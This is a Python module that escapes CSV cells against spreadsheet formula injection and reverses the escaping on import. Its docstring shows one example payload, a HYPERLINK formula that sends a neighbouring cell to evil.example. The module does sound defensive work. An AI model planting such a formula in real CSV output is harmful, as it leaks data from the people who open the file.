"""Cells of the CSV files Kehu writes, neutralised against formula injection (OWASP "CSV Injection").

A spreadsheet program opening a CSV runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some programs,
a tab or carriage return) as a formula: a customer named ``=HYPERLINK("http://evil.example/?d="&C2,"…")`` would send
the next cell to that site from the reader's machine. :func:`csv_safe` prefixes such a cell with a single quote, which
spreadsheets show as text. :func:`csv_unsafe` is its exact inverse, applied by the import readers, so a file Kehu
wrote (an import's error file, an export) imports again as it is: ``'+86 138 0013 8000`` reads as the phone and
``'-12.50`` as the negative amount. A cell that already starts with quotes before such a character gets one more
quote, so every text survives the round trip unchanged.
"""

from __future__ import annotations

import re

FORMULA_START = frozenset("=+-@\t\r")
_NEUTRALISED = re.compile(r"'+[=+\-@\t\r]")
# a neutralised cell anywhere in a row joined with NUL (a cell cannot hold NUL in a CSV we read)
_NEUTRALISED_IN_ROW = re.compile(r"(?:^|\x00)'+[=+\-@\t\r]")


def csv_safe(text: str) -> str:
    """``text`` as a CSV cell no spreadsheet runs as a formula."""
    if not text:
        return text
    first = text[0]
    if first in FORMULA_START or (first == "'" and _NEUTRALISED.match(text)):
        return "'" + text
    return text


def csv_unsafe(text: str) -> str:
    """The text :func:`csv_safe` neutralised (any other text unchanged)."""
    if text[:1] == "'" and _NEUTRALISED.match(text):
        return text[1:]
    return text


def csv_unsafe_row(values: list, *, all_text: bool = True) -> list:
    """A row read from a file with the neutralising quotes removed from its text cells (the row itself when none
    has one: a join and a search over the row decide). ``all_text`` False for rows that may hold numbers or dates
    (spreadsheets)."""
    joined = "\x00".join(values if all_text else [value for value in values if value.__class__ is str])
    if "'" not in joined or not _NEUTRALISED_IN_ROW.search(joined):
        return values
    return [csv_unsafe(value) if value.__class__ is str else value for value in values]
